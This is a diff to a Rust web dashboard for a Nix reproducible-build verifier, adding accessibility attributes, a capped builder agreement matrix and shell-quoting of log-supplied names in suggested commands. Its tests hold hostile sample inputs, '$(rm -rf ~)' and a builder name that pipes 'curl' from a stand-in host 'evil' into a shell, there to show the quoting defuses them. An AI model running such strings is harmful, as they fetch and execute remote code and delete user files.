@@ -3,6 +3,7 @@
 //! JavaScript, and has a table behind every chart. The stylesheet and the one script are
 //! embedded in the binary: nothing is fetched from elsewhere.
 
+use std::collections::HashMap;
 use std::sync::Arc;
 
 use axum::extract::{Path, Query, State};
@@ -26,8 +27,10 @@ const STYLE: &str = include_str!("../assets/style.css");
 const SCRIPT: &str = include_str!("../assets/dashboard.js");
 /// Rows of a report's table, at most: the summary counts every path.
 const REPORT_ROWS: usize = 2000;
-/// Builders whose entries over time the builders page charts, at most.
+/// Builders whose entries over time the builders page charts, at most, and builders in its
+/// agreement matrix: those with the most entries.
 const CHARTED_BUILDERS: usize = 24;
+const MATRIX_BUILDERS: usize = 40;
 
 pub fn router() -> Router<Arc<Db>> {
     Router::new()
@@ -227,7 +230,7 @@ fn time_charts(id: &str, series: &TimeseriesAnswer, with_rate: bool) -> Markup {
         }
         details {
             summary { "The numbers behind the charts" }
-            div.scroll {
+            div.scroll tabindex="0" role="region" aria-label="The numbers behind the charts" {
                 table {
                     caption { "Per " (series.bucket) " (UTC)" }
                     (column_heads(&[&series.bucket, "entries", "compared", "reproduced", "unreproduced", "rate"]))
@@ -276,7 +279,7 @@ fn checkpoint_summary(note: &str) -> String {
 
 fn logs_table(status: &StatusAnswer) -> Markup {
     html! {
-        div.scroll {
+        div.scroll tabindex="0" role="region" aria-label="Followed logs" {
             table #logs.cards {
                 caption { "Followed logs" }
                 (column_heads(&["Log", "Verified entries", "Latest checkpoint", "Cosigned by", "State"]))
@@ -356,16 +359,18 @@ fn heat(share: f64) -> String {
     format!("hsl({:.0}, 70%, 82%)", share.clamp(0.0, 1.0) * 120.0)
 }
 
-fn agreement_cell(a: &str, b: &str, pairs: &[PairAgreement]) -> Markup {
+/// The pairs by their two builders, in either order.
+type PairIndex<'a> = HashMap<(&'a str, &'a str), &'a PairAgreement>;
+
+fn agreement_cell(a: &str, b: &str, pairs: &PairIndex) -> Markup {
     if a == b {
         return html! { td.self { "–" } };
     }
-    let pair = pairs
-        .iter()
-        .find(|p| (p.a == a && p.b == b) || (p.a == b && p.b == a));
-    match pair {
+    match pairs.get(&(a, b)) {
         Some(p) if p.common > 0 => {
             let share = p.agree as f64 / p.common as f64;
+            // Rounded down: a pair that disagrees on any path never shows 100%.
+            let percent = 100 * p.agree / p.common;
             let hover = format!(
                 "{a} and {b}: {} common paths, {} agree, {} disagree",
                 p.common, p.agree, p.disagree
@@ -373,7 +378,7 @@ fn agreement_cell(a: &str, b: &str, pairs: &[PairAgreement]) -> Markup {
             html! {
                 td.heat style=(format!("background: {}", heat(share))) title=(hover)
                     data-agree=(p.agree) data-common=(p.common) data-disagree=(p.disagree) {
-                    strong { (format!("{:.0}%", 100.0 * share)) }
+                    strong { (percent) "%" }
                     br;
                     small { (p.agree) "/" (p.common) }
                 }
@@ -385,8 +390,30 @@ fn agreement_cell(a: &str, b: &str, pairs: &[PairAgreement]) -> Markup {
 
 async fn builders(State(db): State<Arc<Db>>, Query(q): Query<BucketQuery>) -> PageResult {
     let bucket = q.bucket.unwrap_or_else(|| "day".into());
-    let builders = http::builders_answer(&db).await?.builders;
+    let mut builders = http::builders_answer(&db).await?.builders;
     let pairs = http::agreement_answer(&db).await?.pairs;
+    let pair_index: PairIndex = pairs
+        .iter()
+        .flat_map(|p| {
+            [
+                ((p.a.as_str(), p.b.as_str()), p),
+                ((p.b.as_str(), p.a.as_str()), p),
+            ]
+        })
+        .collect();
+    // The builders with the most entries are drawn; the logs decide how many builders there
+    // are, so the matrix and the charts are capped, and the JSON has the rest.
+    let total = builders.len();
+    builders.sort_by(|x, y| {
+        y.entries
+            .cmp(&x.entries)
+            .then_with(|| x.builder.cmp(&y.builder))
+    });
+    let shown: Vec<&str> = builders
+        .iter()
+        .take(MATRIX_BUILDERS)
+        .map(|b| b.builder.as_str())
+        .collect();
     let mut series = Vec::new();
     for b in builders.iter().take(CHARTED_BUILDERS) {
         let answer = http::timeseries_answer(
@@ -399,7 +426,7 @@ async fn builders(State(db): State<Arc<Db>>, Query(q): Query<BucketQuery>) -> Pa
         .await?;
         series.push((b.builder.clone(), answer));
     }
-    let names: Vec<&str> = builders.iter().map(|b| b.builder.as_str()).collect();
+    let names = &shown;
     Ok(layout(
         "Builders",
         Some("/api/v1/builders"),
@@ -407,7 +434,7 @@ async fn builders(State(db): State<Arc<Db>>, Query(q): Query<BucketQuery>) -> Pa
             h1 { "Builders" }
             section aria-labelledby="builders-heading" {
                 h2 #builders-heading { "Who signed what" }
-                div.scroll {
+                div.scroll tabindex="0" role="region" aria-label="Builders (identities of the logs' key registries)" {
                     table #builders.cards {
                         caption { "Builders (identities of the logs' key registries)" }
                         (column_heads(&["Builder", "Entries", "Paths", "First logged", "Last logged"]))
@@ -431,28 +458,34 @@ async fn builders(State(db): State<Arc<Db>>, Query(q): Query<BucketQuery>) -> Pa
                     "Each cell: of the paths both builders claimed, the share on which each claimed "
                     "one NAR hash, the same; below it, agreeing over common paths."
                 }
-                div.scroll {
+                div.scroll tabindex="0" role="region" aria-label="Agreement between pairs of builders" {
                     table #agreement.heatmap {
                         caption { "Agreement between pairs of builders" }
                         thead { tr {
                             td {}
-                            @for n in &names { th scope="col" { (n) } }
+                            @for n in names { th scope="col" { (n) } }
                         } }
                         tbody {
-                            @for a in &names {
+                            @for a in names {
                                 tr {
                                     th scope="row" { (a) }
-                                    @for b in &names { (agreement_cell(a, b, &pairs)) }
+                                    @for b in names { (agreement_cell(a, b, &pair_index)) }
                                 }
                             }
                         }
                     }
+                }
+                @if total > names.len() {
+                    p { "The " (names.len()) " builders with the most entries, of " (total) "; every pair is in the JSON." }
                 }
                 p.json { "Drawn from " a.json href="/api/v1/agreement" { "/api/v1/agreement" } "." }
             }
             section aria-labelledby="over-time-heading" {
                 h2 #over-time-heading { "Entries over time, per builder" }
                 (bucket_choice(&bucket, "/builders"))
+                @if total > series.len() {
+                    p { "The " (series.len()) " builders with the most entries, of " (total) "." }
+                }
                 @for (i, (name, answer)) in series.iter().enumerate() {
                     h3 { (name) }
                     (time_charts(&format!("builder-{i}"), answer, false))
@@ -489,14 +522,19 @@ fn non_empty(s: Option<String>) -> Option<String> {
     s.filter(|s| !s.trim().is_empty())
 }
 
-/// A form's date as the API's time: a day is its first second (since) or last (until).
-fn day_or_time(s: Option<String>, end_of_day: bool) -> Option<String> {
+/// Whether a form's value is a plain date, `YYYY-MM-DD`, as `<input type=date>` sends it.
+fn is_date(s: &str) -> bool {
+    s.len() == 10 && parse_rfc3339(&format!("{s}T00:00:00Z")).is_some()
+}
+
+/// A form's date or time as the API's: a day starts at its first second, and `until`, which
+/// the API excludes, is the start of the next day, so the whole day is in.
+fn day_or_time(s: Option<String>, until: bool) -> Option<String> {
     non_empty(s).map(|s| {
         let t = s.trim();
-        if t.len() == 10 && t.as_bytes()[4] == b'-' {
-            format!("{t}T{}Z", if end_of_day { "23:59:59" } else { "00:00:00" })
-        } else {
-            t.to_owned()
+        match parse_rfc3339(&format!("{t}T00:00:00Z")).filter(|_| is_date(t)) {
+            Some(day) => (day + if until { 86_400 } else { 0 }).to_string(),
+            None => t.to_owned(),
         }
     })
 }
@@ -538,6 +576,11 @@ async fn disagreements(
         href
     });
     let date_value = |v: &Option<String>| v.clone().unwrap_or_default();
+    // A date picker drops what is not a date: a time given in the URL shows as text instead.
+    let time_input = |v: &Option<String>| match v {
+        Some(t) if !is_date(t) => "text",
+        _ => "date",
+    };
     Ok(layout(
         "Disagreements",
         Some(&json),
@@ -549,6 +592,10 @@ async fn disagreements(
                     label for="builder" { "Builder" }
                     select #builder name="builder" {
                         option value="" { "Any builder" }
+                        // A builder asked for that the index does not know still shows.
+                        @if let Some(unknown) = builder.as_ref().filter(|n| !builders.iter().any(|b| &&b.builder == n)) {
+                            option value=(unknown) selected { (unknown) }
+                        }
                         @for b in &builders {
                             option value=(b.builder) selected[builder.as_deref() == Some(b.builder.as_str())] { (b.builder) }
                         }
@@ -556,18 +603,18 @@ async fn disagreements(
                 }
                 div {
                     label for="since" { "Since (UTC)" }
-                    input #since type="date" name="since" value=(date_value(&since));
+                    input #since type=(time_input(&since)) name="since" value=(date_value(&since));
                 }
                 div {
                     label for="until" { "Until (UTC)" }
-                    input #until type="date" name="until" value=(date_value(&until));
+                    input #until type=(time_input(&until)) name="until" value=(date_value(&until));
                 }
                 div { button type="submit" { "Filter" } }
             }
             @if answer.paths.is_empty() {
                 p #none { "No unreproduced path matches." }
             } @else {
-                div.scroll {
+                div.scroll tabindex="0" role="region" aria-label="Unreproduced paths, newest first" {
                     table #disagreements.cards {
                         caption { "Unreproduced paths, newest first" }
                         (column_heads(&["Store path", "Last logged", "Builders", "NAR hashes"]))
@@ -591,35 +638,65 @@ async fn disagreements(
     ))
 }
 
-/// The commands that rebuild a path and compare the results, each with the real path.
-fn next_steps(store_path: &str, claims: &[IndexedClaim]) -> Markup {
-    let deriver = claims.iter().find_map(|c| c.deriver.clone());
-    let drv = deriver
-        .clone()
-        .unwrap_or_else(|| "\"$(nix-store --query --deriver ".to_owned() + store_path + ")\"");
-    // One claim per distinct NAR hash, to compare two of them.
-    let mut by_hash: Vec<&IndexedClaim> = Vec::new();
-    for c in claims.iter().filter(|c| c.void.is_none()) {
-        if !by_hash.iter().any(|o| o.nar_hash == c.nar_hash) {
-            by_hash.push(c);
-        }
+/// `s` as one word of a POSIX shell: as it is when it holds only characters no shell treats
+/// specially, else in single quotes. Paths, derivations and builder names come from the logs,
+/// and the commands are for pasting into a terminal.
+fn shell_word(s: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "._+=/:,@%-".contains(c);
+    if !s.is_empty() && s.chars().all(plain) {
+        s.to_owned()
+    } else {
+        format!("'{}'", s.replace('\'', r"'\''"))
     }
-    let rebuild = format!("nix-build --check {drv}\nnix build --rebuild {drv}^*");
-    let compare = match by_hash.as_slice() {
-        [a, b, ..] => format!(
-            "nix store dump-path --store <cache of {ab}> {store_path} > {ab}.nar\n\
-             nix store dump-path --store <cache of {bb}> {store_path} > {bb}.nar\n\
-             diffoscope {ab}.nar {bb}.nar",
-            ab = a.builder,
-            bb = b.builder
+}
+
+/// The commands that rebuild a path and compare two results, each with the real path.
+fn next_steps(store_path: &str, claims: &[IndexedClaim]) -> Markup {
+    let path = shell_word(store_path);
+    let deriver = claims.iter().find_map(|c| c.deriver.as_deref());
+    let find_drv = match deriver {
+        Some(d) => format!("drv={}", shell_word(d)),
+        None => format!("drv=$(nix-store --query --deriver {path})"),
+    };
+    let rebuild = format!("{find_drv}\nnix-build --check \"$drv\"\nnix build --rebuild \"$drv^*\"");
+    // Two results to compare: the first claim, and one with another NAR hash, by another
+    // builder where there is one.
+    let counted: Vec<&IndexedClaim> = claims.iter().filter(|c| c.void.is_none()).collect();
+    let first = counted.first();
+    let other = first.and_then(|a| {
+        let differs = |c: &&&IndexedClaim| c.nar_hash != a.nar_hash;
+        counted
+            .iter()
+            .filter(differs)
+            .find(|c| c.builder != a.builder)
+            .or_else(|| counted.iter().find(differs))
+    });
+    // Builder names go in a comment only, made printable so that no line break ends it.
+    let who = |c: &IndexedClaim| {
+        format!(
+            "{} ({})",
+            reprolog_verifier::text::printable(&c.builder),
+            c.nar_hash
+        )
+    };
+    let compare = match (first, other) {
+        (Some(a), Some(b)) => format!(
+            "# CACHE_A: a binary cache with the result of {}\n\
+             # CACHE_B: one with the result of {}\n\
+             nix store dump-path --store \"$CACHE_A\" {path} > a.nar\n\
+             nix store dump-path --store \"$CACHE_B\" {path} > b.nar\n\
+             diffoscope a.nar b.nar",
+            who(a),
+            who(b)
         ),
-        [a, ..] => format!(
-            "nix store dump-path --store <cache of {ab}> {store_path} > {ab}.nar\n\
-             nix store dump-path {store_path} > mine.nar   # after your rebuild\n\
-             diffoscope {ab}.nar mine.nar",
-            ab = a.builder
+        (Some(a), None) => format!(
+            "# CACHE_A: a binary cache with the result of {}\n\
+             nix store dump-path --store \"$CACHE_A\" {path} > a.nar\n\
+             nix store dump-path {path} > mine.nar   # after your rebuild\n\
+             diffoscope a.nar mine.nar",
+            who(a)
         ),
-        [] => String::new(),
+        _ => String::new(),
     };
     html! {
         section #next aria-labelledby="next-heading" {
@@ -635,6 +712,34 @@ fn next_steps(store_path: &str, claims: &[IndexedClaim]) -> Markup {
                 pre #compare { code { (compare) } }
             }
         }
+    }
+}
+
+fn claims_table(claims: &[IndexedClaim]) -> Markup {
+    html! {
+    div.scroll tabindex="0" role="region" aria-label="Every claim about this path, in log order" {
+        table #claims.cards {
+            caption { "Every claim about this path, in log order" }
+            (column_heads(&["Builder", "NAR hash", "NAR size", "Log", "Index", "Logged", "Kind"]))
+            tbody {
+                @for c in claims {
+                    tr.claim.void[c.void.is_some()] {
+                        th scope="row" { (c.builder) br; small { "key " (c.key) } }
+                        td data-label="NAR hash" { code.wrap { (c.nar_hash) } }
+                        td.number data-label="NAR size" { (c.nar_size) }
+                        td data-label="Log" { (c.log) }
+                        td.number data-label="Index" { (c.index) }
+                        td data-label="Logged" { (c.logged_at.as_deref().unwrap_or("not yet cosigned")) }
+                        td data-label="Kind" {
+                            (c.kind)
+                            @if let Some(d) = &c.deriver { br; small { "from " code { (d) } } }
+                            @if let Some(v) = &c.void { br; strong.reason { "void: " (v) } }
+                        }
+                    }
+                }
+            }
+        }
+    }
     }
 }
 
@@ -654,29 +759,7 @@ async fn path(State(db): State<Arc<Db>>, Path(hash): Path<String>) -> PageResult
             h1 { (name) }
             p { code.wrap #store-path { (answer.store_path) } }
             p { "Verdict: " span #verdict { (verdict_badge(answer.verdict)) } }
-            div.scroll {
-                table #claims.cards {
-                    caption { "Every claim about this path, in log order" }
-                    (column_heads(&["Builder", "NAR hash", "NAR size", "Log", "Index", "Logged", "Kind"]))
-                    tbody {
-                        @for c in &answer.claims {
-                            tr.claim class=[c.void.as_ref().map(|_| "void")] {
-                                th scope="row" { (c.builder) br; small { "key " (c.key) } }
-                                td data-label="NAR hash" { code.wrap { (c.nar_hash) } }
-                                td.number data-label="NAR size" { (c.nar_size) }
-                                td data-label="Log" { (c.log) }
-                                td.number data-label="Index" { (c.index) }
-                                td data-label="Logged" { (c.logged_at.as_deref().unwrap_or("not yet cosigned")) }
-                                td data-label="Kind" {
-                                    (c.kind)
-                                    @if let Some(d) = &c.deriver { br; small { "from " code { (d) } } }
-                                    @if let Some(v) = &c.void { br; strong.reason { "void: " (v) } }
-                                }
-                            }
-                        }
-                    }
-                }
-            }
+            (claims_table(&answer.claims))
             (next_steps(&answer.store_path, &answer.claims))
         },
     ))
@@ -714,6 +797,9 @@ async fn search(State(db): State<Arc<Db>>, Query(q): Query<SearchQuery>) -> Page
                                 li { (path_link(&p.store_path)) " " (verdict_badge(p.verdict)) }
                             }
                         }
+                        @if let (Some(next), Some(q)) = (&answer.next, &text) {
+                            p { a.more rel="next" href=(format!("/search?q={}&after={}", urlencode(q), urlencode(next))) { "More results" } }
+                        }
                     }
                 }
             }
@@ -726,8 +812,11 @@ fn report_input(paths: &str) -> Markup {
         form.report method="post" action="/report" {
             label for="paths" { "Store paths, one a line (e.g. the output of " code { "nix path-info -r" } ")" }
             textarea #paths name="paths" rows="10" spellcheck="false" { (paths) }
-            label for="file" { "Or upload that output as a file" }
-            input #file type="file" accept="text/plain,.txt";
+            // Reading a file into the form takes the script, so without it the field stays hidden.
+            div #upload hidden {
+                label for="file" { "Or upload that output as a file" }
+                input #file type="file" accept="text/plain,.txt";
+            }
             button type="submit" { "Report" }
         }
     }
@@ -779,7 +868,7 @@ async fn report(State(db): State<Arc<Db>>, Form(form): Form<ReportForm>) -> Page
         html! {
             h1 { "Report on " (s.paths) " store paths" }
             figure.summary { (charts::stacked_bar("summary", "Verdicts", &parts)) }
-            div.scroll {
+            div.scroll tabindex="0" role="region" aria-label="Summary" {
                 table #summary-table {
                     caption { "Summary" }
                     tbody {
@@ -793,7 +882,7 @@ async fn report(State(db): State<Arc<Db>>, Form(form): Form<ReportForm>) -> Page
                     }
                 }
             }
-            div.scroll {
+            div.scroll tabindex="0" role="region" aria-label="Each path, those needing attention first" {
                 table #report.cards {
                     caption {
                         "Each path, those needing attention first"
@@ -818,4 +907,92 @@ async fn report(State(db): State<Arc<Db>>, Form(form): Form<ReportForm>) -> Page
             (report_input(&form.paths))
         },
     ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn claim(builder: &str, hash: &str, void: Option<&str>) -> IndexedClaim {
+        IndexedClaim {
+            store_path: "/nix/store/ll5g4yaysc30yh3w5r6m1gk1ix5ah6sx-stamp".into(),
+            log: "example.com/log".into(),
+            index: 1,
+            kind: "cache-signature".into(),
+            builder: builder.into(),
+            key: builder.into(),
+            nar_hash: hash.into(),
+            nar_size: 1,
+            references: Vec::new(),
+            deriver: None,
+            logged_at: None,
+            void: void.map(str::to_owned),
+        }
+    }
+
+    #[test]
+    fn words_from_the_logs_stay_words_in_a_shell() {
+        assert_eq!(
+            shell_word("/nix/store/abc-hello-2.12"),
+            "/nix/store/abc-hello-2.12"
+        );
+        assert_eq!(shell_word("a b"), "'a b'");
+        assert_eq!(shell_word("$(rm -rf ~)"), "'$(rm -rf ~)'");
+        assert_eq!(shell_word("it's"), r"'it'\''s'");
+        assert_eq!(shell_word(""), "''");
+    }
+
+    #[test]
+    fn a_hostile_builder_name_cannot_run_in_the_commands() {
+        let path = "/nix/store/ll5g4yaysc30yh3w5r6m1gk1ix5ah6sx-a;b";
+        let hostile = "b$(curl${IFS}evil|sh)\nrm";
+        let page = next_steps(
+            path,
+            &[
+                claim("good", "sha256:1", None),
+                claim(hostile, "sha256:2", None),
+            ],
+        )
+        .into_string();
+        // The path is quoted wherever a command uses it, and the name only in a comment line.
+        assert!(
+            page.contains("--deriver '/nix/store/ll5g4yaysc30yh3w5r6m1gk1ix5ah6sx-a;b'"),
+            "{page}"
+        );
+        for line in page.lines().filter(|l| l.contains("curl")) {
+            assert!(line.trim_start().starts_with("# CACHE_B"), "{line}");
+        }
+        assert!(page.contains("diffoscope a.nar b.nar"), "{page}");
+    }
+
+    #[test]
+    fn one_builder_with_two_results_gets_two_files_to_compare() {
+        let page = next_steps(
+            "/nix/store/ll5g4yaysc30yh3w5r6m1gk1ix5ah6sx-stamp",
+            &[claim("b1", "sha256:1", None), claim("b1", "sha256:2", None)],
+        )
+        .into_string();
+        assert!(
+            page.contains("&gt; a.nar") && page.contains("&gt; b.nar"),
+            "{page}"
+        );
+        // A void claim is not a result to compare.
+        let page = next_steps(
+            "/nix/store/ll5g4yaysc30yh3w5r6m1gk1ix5ah6sx-stamp",
+            &[
+                claim("b1", "sha256:1", None),
+                claim("b2", "sha256:2", Some("revoked")),
+            ],
+        )
+        .into_string();
+        assert!(page.contains("mine.nar"), "{page}");
+    }
+
+    #[test]
+    fn a_void_claim_is_marked() {
+        let table =
+            claims_table(&[claim("b1", "sha256:1", Some("revoked as of index 0"))]).into_string();
+        assert!(table.contains(r#"<tr class="claim void">"#), "{table}");
+        assert!(table.contains("void: revoked as of index 0"), "{table}");
+    }
 }
